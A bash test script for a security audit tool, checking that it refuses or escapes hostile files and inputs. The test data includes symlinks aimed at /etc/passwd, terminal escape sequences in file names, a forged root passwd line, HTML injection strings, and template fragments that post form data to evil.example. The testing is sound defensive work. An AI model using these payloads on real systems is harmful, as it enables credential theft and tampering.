#!/bin/bash
# hostile-files.sh -- files and directories that try to make rempart destroy,
# leak, hang or skip something: outputs naming a device, a FIFO or a
# symlink, a shared output directory, FIFOs, /dev/zero and unreadable
# directories in a bundle, a probe file over the read cap, terminal escapes
# in a manifest, a hostile template directory, an XML file with 100 000
# attributes. Each asserts the safe outcome.
#
# Devices are only made inside "unshare -m" on a private tmpfs (never the
# real /dev). The parts that need root (mknod, another user for an
# unreadable directory, a directory owned by someone else) say "skip" with
# the reason when not run as root.
. "$(dirname "$0")/lib.sh"
t_setup
FX=$SRCDIR/tests/fixtures
BL="-b anssi-bp028-intermediary -b ad-anssi-level-2 -b openldap-hardened"
EV=$T_TMP/ev
cp -r "$FX/bundle" "$EV"
"$REMPART" evidence seal "$EV" > /dev/null
# shellcheck disable=SC2086
"$REMPART" evaluate -e "$EV" $BL -o "$T_TMP/r.json" 2>/dev/null
check "the fixture bundle evaluates" test -s "$T_TMP/r.json"
skip() { printf 'skip %s (%s)\n' "$1" "$2"; }
ROOT=0; [ "$(id -u)" = 0 ] && ROOT=1

# --- outputs (B3, B12, B21) ------------------------------------------------
# mode of what is written, under the process's own umask 077
"$REMPART" report -r "$T_TMP/r.json" -f md -o "$T_TMP/rep.md"
# hostile references and dates in a results file: no raw HTML in Markdown
python3 - "$T_TMP/r.json" "$T_TMP/r-md.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
for x in d["results"] + d["plan"]:
    if x.get("references") is not None:
        x["references"] = ["anssi-ad:x)<img\tsrc=x\tonerror=alert(1)>"]
json.dump(d, open(sys.argv[2], "w"))
PY
"$REMPART" report -r "$T_TMP/r-md.json" -f md -o "$T_TMP/rep-md.md" 2>/dev/null
check_grep "the hostile reference is there, as text" 'anssi-ad:x\)&lt;img' "$T_TMP/rep-md.md"
check_nogrep "a hostile reference id reaches no Markdown link" '<img' "$T_TMP/rep-md.md"
check_grep "results.json is 0600" '^600$' <(stat -c %a "$T_TMP/r.json")
check_grep "a report is 0600" '^600$' <(stat -c %a "$T_TMP/rep.md")
check_grep "evidence written by seal is private (manifest 0600)" '^600$' \
	<(stat -c %a "$EV/manifest.json")

mkfifo "$T_TMP/out.fifo"
check_rc "report -o FIFO is refused (exit 2), not blocked on" 2 \
	timeout 20 "$REMPART" report -r "$T_TMP/r.json" -f md -o "$T_TMP/out.fifo"
check_grep "the refusal names the FIFO" "out.fifo' exists and is not a regular file \(a FIFO\)" "$T_TMP/stderr"
check "the FIFO is still a FIFO" test -p "$T_TMP/out.fifo"
check_rc "report -r FIFO (the results read) is refused (exit 2), not blocked on" 2 \
	timeout 20 "$REMPART" report -r "$T_TMP/out.fifo" -f md -o "$T_TMP/from-fifo.md"
check_grep "the refusal names the results FIFO" "out.fifo': not a regular file" "$T_TMP/stderr"

# symlinks planted where the outputs go
echo "victim: unchanged" > "$T_TMP/victim"
chmod 600 "$T_TMP/victim"
ln -s "$T_TMP/victim" "$T_TMP/link.json"
# shellcheck disable=SC2086
check_rc "evaluate -o SYMLINK is refused" 2 \
	"$REMPART" evaluate -e "$EV" $BL -o "$T_TMP/link.json"
check_grep "the refusal says it is a symbolic link" "a symbolic link" "$T_TMP/stderr"
check_rc "report -o SYMLINK is refused" 2 \
	"$REMPART" report -r "$T_TMP/r.json" -f html -o "$T_TMP/link.json"
check_grep "the symlink's target is untouched" '^victim: unchanged$' "$T_TMP/victim"
check "the symlink is still a symlink" test -L "$T_TMP/link.json"
# the old writer's temporary name ("OUTPUT.tmp") planted as a symlink
ln -s "$T_TMP/victim2" "$T_TMP/rep.html.tmp"
check "report -o beside a planted OUTPUT.tmp symlink succeeds" \
	"$REMPART" report -r "$T_TMP/r.json" -f html -o "$T_TMP/rep.html"
check "the planted symlink's target is not created" test ! -e "$T_TMP/victim2"
check "no temporary is left beside the report" \
	test "$(find "$T_TMP" -maxdepth 1 -name 'rep.html.*' ! -name rep.html.tmp | wc -l)" = 0

# a shared, world-writable output directory for audit
mkdir -m 0777 "$T_TMP/shared"
check_rc "audit refuses an existing world-writable output directory" 2 \
	"$REMPART" audit -i /dev/null -b anssi-bp028-minimal -o "$T_TMP/shared"
check_grep "the refusal says why" "writable by others" "$T_TMP/stderr"
mkdir -m 0777 "$T_TMP/shared-ev"
check_rc "an evidence directory writable by others is refused" 2 \
	"$REMPART" evidence import-ldif --id dc1 --kind ad -b ad-anssi-level-2 \
	-o "$T_TMP/shared-ev" "$FX/ldif-export/bench-ad.ldif"
check_grep "the refusal names it" "shared-ev' is writable by others" "$T_TMP/stderr"
ln -s "$T_TMP" "$T_TMP/outlink"
check_rc "audit refuses an output directory that is a symlink" 2 \
	"$REMPART" audit -i /dev/null -b anssi-bp028-minimal -o "$T_TMP/outlink"
check_grep "the refusal says it is not followed" "is not a directory \(a symbolic link is not followed\)" "$T_TMP/stderr"

# a character device, in a private mount namespace on a private tmpfs
if [ $ROOT = 1 ] && command -v unshare > /dev/null; then
	mkdir "$T_TMP/dev"
	unshare -m sh -c '
		mount -t tmpfs tmpfs "$1/dev" && mknod -m 666 "$1/dev/null" c 1 3 || exit 99
		"$2" report -r "$1/r.json" -f md -o "$1/dev/null" 2> "$1/dev-stderr"
		echo "rc=$?"
		stat -c "%F %t,%T" "$1/dev/null"
		ls "$1/dev"' sh "$T_TMP" "$REMPART" > "$T_TMP/dev.out" 2>&1
	check_grep "report -o DEV/null: refused with exit 2" '^rc=2$' "$T_TMP/dev.out"
	check_grep "DEV/null is still the character device 1,3" '^character special file 1,3$' "$T_TMP/dev.out"
	check_grep "nothing else was left in DEV" '^null$' <(sed -n '3,$p' "$T_TMP/dev.out")
	check_grep "the refusal names the device" "dev/null' exists and is not a regular file \(a device\)" "$T_TMP/dev-stderr"
else
	skip "report -o on a character device" "needs root and unshare for a private tmpfs"
fi

# a full file system while results.json is written: an error naming the
# file, exit 4, no file and no temporary left (was: exit 3, silence)
if [ $ROOT = 1 ] && command -v unshare > /dev/null; then
	mkdir "$T_TMP/full"
	# shellcheck disable=SC2016,SC2086
	unshare -m sh -c '
		mount -t tmpfs -o size=64k tmpfs "$1/full" || exit 99
		"$2" evaluate -e "$3" '"$BL"' -o "$1/full/r.json" 2> "$1/full-stderr"
		echo "rc=$?"
		ls -A "$1/full"' sh "$T_TMP" "$REMPART" "$EV" > "$T_TMP/full.out" 2>&1
	check_grep "evaluate -o on a full file system: exit 4" '^rc=4$' "$T_TMP/full.out"
	check_grep "nothing left on it" '^rc=4$' <(sed -n '$p' "$T_TMP/full.out")
	check_grep "the error names the file" "cannot write '$T_TMP/full/r.json'" "$T_TMP/full-stderr"
else
	skip "evaluate -o on a full file system" "needs root and unshare for a private tmpfs"
fi

# --- bundles: FIFOs, /dev/zero, unreadable directories (B15, B16) -----------
B=$T_TMP/b-fifo; cp -r "$EV" "$B"
mkfifo "$B/targets/db1/probes/zz.out"
check_rc "seal with a FIFO in the bundle: error, no hang" 4 \
	timeout 20 "$REMPART" evidence seal "$B"
python3 - "$B" <<'PY'
import json, sys
p = sys.argv[1] + "/manifest.json"
m = json.load(open(p))
m["files"].append({"path": "targets/db1/probes/zz.out", "sha256": "0" * 64, "size": 0})
json.dump(m, open(p, "w"))
PY
check_rc "verify with a FIFO listed in the manifest: exit 2, no hang" 2 \
	timeout 20 "$REMPART" evidence verify "$B"
# shellcheck disable=SC2086
check_rc "evaluate with a FIFO in the bundle: exit 2, no hang" 2 \
	timeout 20 "$REMPART" evaluate -e "$B" $BL -o "$T_TMP/x.json"

B=$T_TMP/b-mfifo; cp -r "$EV" "$B"
rm "$B/manifest.json"; mkfifo "$B/manifest.json"
check_rc "verify with manifest.json a FIFO: exit 2, no hang" 2 \
	timeout 20 "$REMPART" evidence verify "$B"
check_grep "the error names the manifest" "manifest.json': not a regular file" "$T_TMP/stderr"

B=$T_TMP/b-zero; cp -r "$EV" "$B"
ln -s / "$B/lnk"
ln -s /dev/zero "$B/targets/db1/probes/zero.out"
python3 - "$B" <<'PY'
import json, sys
p = sys.argv[1] + "/manifest.json"
m = json.load(open(p))
for path in ("lnk/dev/zero", "targets/db1/probes/zero.out"):
    m["files"].append({"path": path, "sha256": "0" * 64, "size": 0})
json.dump(m, open(p, "w"))
PY
timeout 20 "$REMPART" evidence verify "$B" > "$T_TMP/zero.out" 2>&1
check_grep "verify with /dev/zero in the manifest ends, exit 2" '^rc=2$' <(echo "rc=$?")
check_grep "a manifest path outside targets/ is invalid" '^invalid +lnk/dev/zero$' "$T_TMP/zero.out"
check_grep "a probe file that is a symlink to /dev/zero is missing" '^missing +targets/db1/probes/zero.out$' "$T_TMP/zero.out"

# an unreadable directory, for an evaluator that is not root (B16)
if [ $ROOT = 1 ] && command -v setpriv > /dev/null; then
	U=64123	# a throwaway uid without a passwd entry
	NB=$(mktemp -d /tmp/rempart-hostile.XXXXXX)
	chmod 755 "$NB"
	cp -r "$EV" "$NB/b"
	python3 - "$NB/b" <<'PY'
import json, sys
p = sys.argv[1] + "/manifest.json"
m = json.load(open(p))
m["files"] = [f for f in m["files"] if not f["path"].startswith("targets/db1/")]
json.dump(m, open(p, "w"))
PY
	echo 'toor:x:0:0:TAMPERED:/root:/bin/bash' >> "$NB/b/targets/db1/probes/linux.passwd.out"
	chown -R $U:$U "$NB/b"
	chmod 0311 "$NB/b/targets/db1"
	setpriv --reuid=$U --regid=$U --clear-groups "$REMPART" evidence verify "$NB/b" > "$T_TMP/unr.out" 2>&1
	check_grep "verify as another user: an unreadable directory fails (exit 2)" '^rc=2$' <(echo "rc=$?")
	check_grep "verify names the unreadable directory" '^unreadable +targets/db1$' "$T_TMP/unr.out"
	check_nogrep "verify does not say intact" 'intact' "$T_TMP/unr.out"
	# shellcheck disable=SC2086
	setpriv --reuid=$U --regid=$U --clear-groups "$REMPART" evaluate -e "$NB/b" $BL -o - > "$T_TMP/unr.json" 2> "$T_TMP/unr.err"
	check_grep "evaluate as another user refuses the bundle (exit 2)" '^rc=2$' <(echo "rc=$?")
	check_nogrep "the unverified passwd is not evaluated" 'TAMPERED|toor' "$T_TMP/unr.json"
	chmod -R u+rwX "$NB"; rm -rf "$NB"
else
	skip "unreadable directory in a bundle" "needs root and setpriv to run as a throwaway user"
fi

# --- a probe file over the read cap is that probe's error (B5) ---------------
B=$T_TMP/b-big; cp -r "$EV" "$B"
truncate -s 300M "$B/targets/db1/probes/linux.passwd.out"	# sparse
"$REMPART" evidence seal "$B" > /dev/null
# shellcheck disable=SC2086
"$REMPART" evaluate -e "$B" $BL -o "$T_TMP/big.json" 2> "$T_TMP/big.err"
check_grep "evaluate with a 300 MiB probe file: results, exit 3 (incomplete)" '^rc=3$' <(echo "rc=$?")
python3 - "$T_TMP/big.json" "$T_TMP/r.json" > "$T_TMP/big.txt" <<'PY'
import json, sys
big = json.load(open(sys.argv[1])); ref = json.load(open(sys.argv[2]))
st = {t["id"]: t["status"] for t in big["targets"]}
print("db1", st.get("db1"))
rs = [r for r in big["results"] if r["target"] == "db1" and r["check"] in ("LNX-ACC-001", "LNX-ACC-005")]
print("passwd checks", sorted(set(r["status"] for r in rs)))
print("reason", rs[0].get("reason"))
key = lambda r: (r["target"], r["check"], r["status"])
other = lambda d: sorted(key(r) for r in d["results"] if r["target"] != "db1")
print("others same", other(big) == other(ref))
PY
check_grep "the target with the oversized probe is partial" '^db1 partial$' "$T_TMP/big.txt"
check_grep "the checks reading it are error" "^passwd checks \['error'\]$" "$T_TMP/big.txt"
check_grep "their reason names the file and the cap" "^reason probe 'linux.passwd' error: cannot read 'probes/linux.passwd.out': larger than 268435456 bytes$" "$T_TMP/big.txt"
check_grep "every other target is evaluated as before" '^others same True$' "$T_TMP/big.txt"

# --- terminal escapes from a bundle (B14) ------------------------------------
B=$T_TMP/b-esc; cp -r "$EV" "$B"
python3 - "$B" <<'PY'
import json, sys
p = sys.argv[1] + "/manifest.json"
m = json.load(open(p))
m["files"].append({"path": "targets/\x1b]0;PWNED\x07\x1b[2J\x1b[1;1Hb: intact\x1b[8m", "sha256": "0" * 64})
json.dump(m, open(p, "w"))
PY
touch "$B/targets/$(printf 'x\033[2Jy')"
"$REMPART" evidence verify "$B" > "$T_TMP/esc.out" 2>&1
# shellcheck disable=SC2086
"$REMPART" evaluate -e "$B" $BL -o "$T_TMP/x.json" >> "$T_TMP/esc.out" 2>&1
python3 -c 'import base64, sys
dn = base64.b64encode(b"\x1b]0;PWNED\x07\x1b[2Jcn=x\x00,dc=y").decode()
open(sys.argv[1], "w").write("dn:: %s\nobjectClass: top\n\n" % dn)' "$T_TMP/esc.ldif"
"$REMPART" evidence import-ldif --id x1 --kind openldap -b openldap-hardened \
	-o "$T_TMP/imp-esc" "$T_TMP/esc.ldif" >> "$T_TMP/esc.out" 2>&1
check_grep "import-ldif shows a hostile DN escaped" "invalid DN '\\\\x1b\]0;PWNED" "$T_TMP/esc.out"
check_nogrep "no ESC or BEL byte reaches the terminal" $'[\x1b\x07]' "$T_TMP/esc.out"
check_grep "the escapes are shown escaped" 'targets/\\x1b\]0;PWNED\\x07' "$T_TMP/esc.out"
check_grep "a file name with escapes is shown escaped" 'x\\x1b\[2Jy' "$T_TMP/esc.out"

# --- template directory (B13) ---------------------------------------------
TD=$T_TMP/tpl
new_tpl() { rm -rf "$TD"; cp -r "$SRCDIR/reports/default" "$TD"; }
render() { "$REMPART" report -r "$T_TMP/r.json" -f html --template-dir "$TD" -o "$T_TMP/tpl.html"; }
new_tpl; printf 'name = Evil\nlogo = logo.svg\n' > "$TD/brand.conf"; ln -s /etc/passwd "$TD/logo.svg"
check_rc "a logo that is a symlink is refused" 2 render
check_grep "the refusal names the logo" "logo.svg': a symbolic link" "$T_TMP/stderr"
new_tpl; ln -s /etc/passwd "$TD/footer.html"
check_rc "a fragment that is a symlink is refused" 2 render
new_tpl; rm "$TD/report.css"; ln -s /etc/passwd "$TD/report.css"
check_rc "a stylesheet that is a symlink is refused" 2 render
new_tpl; mkfifo "$TD/header.html"
check_rc "a fragment that is a FIFO is refused, no hang" 2 timeout 20 "$REMPART" report \
	-r "$T_TMP/r.json" -f html --template-dir "$TD" -o "$T_TMP/tpl.html"
for frag in '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>' \
    '<form action="https://evil.example/steal"><input name="p"/></form>' \
    '<div style="display:none">x</div>' '<style>body{display:none}</style>' \
    '<a href="javascript:alert(1)">x</a>' '<img src="https://evil.example/t.png"/>' \
    '<iframe src="data:text/html,x"></iframe>' '<p onmouseover="x()">x</p>' \
    '<a href="https://{{organisation}}/">x</a>' '<svg><script>x</script></svg>' \
    '<object data="x"></object>' '<base href="https://evil.example/"/>'; do
	new_tpl; printf '%s\n' "$frag" > "$TD/header.html"
	check_rc "fragment refused: $frag" 2 render
done
check "no report is left by a refused template" test ! -e "$T_TMP/tpl.html"
# placeholders escaped for where they land
python3 - "$T_TMP/r.json" "$T_TMP/r-org.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
d["incident"] = d.get("incident") or {}
d["incident"]["organisation"] = 'x" onmouseover="y" style="}body{display:none}</div><script>z</script>'
json.dump(d, open(sys.argv[2], "w"))
PY
new_tpl
printf '<div class="{{organisation}}" title="{{organisation}}">{{organisation}} &amp; <b>ok</b><br></div>\n<!-- a comment -->\n' > "$TD/header.html"
check "an allowed fragment with placeholders in attributes renders" \
	"$REMPART" report -r "$T_TMP/r-org.json" -f html --template-dir "$TD" -o "$T_TMP/tpl.html"
check "the report stays well-formed XHTML" xmllint --noout "$T_TMP/tpl.html"
check_grep "the organisation is escaped inside the attribute" \
	'<div class="x&quot; onmouseover=&quot;y&quot; style=&quot;\}body\{display:none\}&lt;/div&gt;&lt;script&gt;z&lt;/script&gt;"' "$T_TMP/tpl.html"
check_nogrep "no attribute or element is injected" '<script|onmouseover="' "$T_TMP/tpl.html"
check_grep "the fragment's HTML is written back as XHTML" '&amp; <b>ok</b><br/></div>' "$T_TMP/tpl.html"

# --- XML CPU (B19) ------------------------------------------------------------
python3 -c '
n = 100000
open("'"$T_TMP"'/w.xml", "w").write("<?xml version=\"1.0\"?>\n<waivers xmlns=\"urn:rempart:waivers:1\" " + " ".join("a%d=\"1\"" % i for i in range(n)) + "/>\n")'
start=$(date +%s%N)
check_rc "100 000 attributes in one element are refused" 2 \
	timeout 60 "$REMPART" baseline validate "$T_TMP/w.xml"
ms=$(( ($(date +%s%N) - start) / 1000000 ))
check_grep "the error names the file, the line and the cap" "w.xml:2: an element with more than 64 attributes" "$T_TMP/stderr"
if [ "$ms" -lt 2000 ]; then ok "refused in under 2 s ($ms ms)"; else not_ok "refused in under 2 s" "$ms ms"; fi
mkfifo "$T_TMP/w.fifo"
check_rc "an XML path that is a FIFO is refused, no hang" 2 \
	timeout 20 "$REMPART" baseline validate "$T_TMP/w.fifo"
# --- SYSVOL copies: GptTmpl.inf encodings and line endings --------------------
# The planted GptTmpl.inf (Everyone may log on locally, LmCompatibilityLevel
# 1, SMB signing not required) written without its BOM, in UTF-16BE, with CR
# line endings, or behind a line longer than the parser's: each still fails
# (or is not assessed), never passes.
sysvol_inf() {	# NAME PYEXPR(text) -> verdicts of AD-GPO-005/006/010 in $T_TMP/sv-NAME.txt
	local d=$T_TMP/sv-$1
	rm -rf "$d"; mkdir -p "$d/Policies"
	python3 "$SRCDIR/tests/lab/sysvol-plant.py" "$d/Policies" > /dev/null
	python3 - "$d/Policies" "$2" <<'PY'
import glob, sys
f = glob.glob(sys.argv[1] + "/*/Machine/Microsoft/Windows NT/SecEdit/GptTmpl.inf")[0]
t = open(f, "rb").read().decode("utf-16")
open(f, "wb").write(eval(sys.argv[2]))
PY
	"$REMPART" evidence import-sysvol --id dc1 -b rempart-ad-sysvol -o "$d/ev" "$d/Policies" > /dev/null 2>&1
	"$REMPART" evaluate -e "$d/ev" -o "$d/r.json" > /dev/null 2>&1
	python3 -c '
import json, sys
for r in json.load(open(sys.argv[1]))["results"]:
    if r["check"] in ("AD-GPO-005", "AD-GPO-006", "AD-GPO-010"):
        print(r["check"], r["status"])' "$d/r.json" > "$T_TMP/sv-$1.txt"
}
sysvol_inf le-bom 't.encode("utf-16-le")'
check_rc "import-sysvol with a misspelt -b: exit 2" 2 "$REMPART" evidence import-sysvol --id dc1 \
	-b ad-anssi-levle-2 -o "$T_TMP/sv-badb" "$T_TMP/sv-le-bom/Policies"
check_grep "... naming the baseline and the closest ones" "unknown baseline 'ad-anssi-levle-2'; did you mean ad-anssi-level-2" "$T_TMP/stderr"
check "... and nothing written" test ! -e "$T_TMP/sv-badb"
check_grep "GptTmpl.inf UTF-16LE with BOM: AD-GPO-006 fails (reference)" '^AD-GPO-006 fail' "$T_TMP/sv-le-bom.txt"
for v in 'le-nobom:t.lstrip("\ufeff").encode("utf-16-le")' \
	'be-bom:t.encode("utf-16-be")' 'be-nobom:t.lstrip("\ufeff").encode("utf-16-be")' \
	'cr-only:t.replace("\r\n", "\r").encode("utf-16")' \
	'long-line:t.replace("= *S-1-5-32-544,", "= *S-1-5-32-544," + "*S-1-5-21-1-2-3-1000," * 4000).encode("utf-16")'; do
	n=${v%%:*}
	sysvol_inf "$n" "${v#*:}"
	for c in AD-GPO-005 AD-GPO-006 AD-GPO-010; do
		check_grep "GptTmpl.inf $n: $c fails or is not assessed, never passes" "^$c (fail|error)" "$T_TMP/sv-$n.txt"
	done
done
t_done
